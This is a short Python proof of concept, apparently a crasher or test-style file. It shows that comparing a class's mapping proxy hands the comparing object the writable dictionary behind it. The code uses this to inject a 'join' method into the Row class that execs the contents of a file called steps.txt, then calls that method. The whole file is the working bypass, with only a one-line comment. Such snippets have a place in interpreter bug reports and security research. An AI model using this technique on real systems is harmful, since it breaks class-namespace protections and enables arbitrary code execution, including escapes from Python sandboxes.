# reaches: comparing a class's mapping proxy hands out the dictionary behind it
class Grab:
    def __eq__(self, other):
        other["join"] = lambda self, parts: exec(open("steps.txt").read())
class Row:
    pass
Row.__dict__ == Grab()
Row().join([])
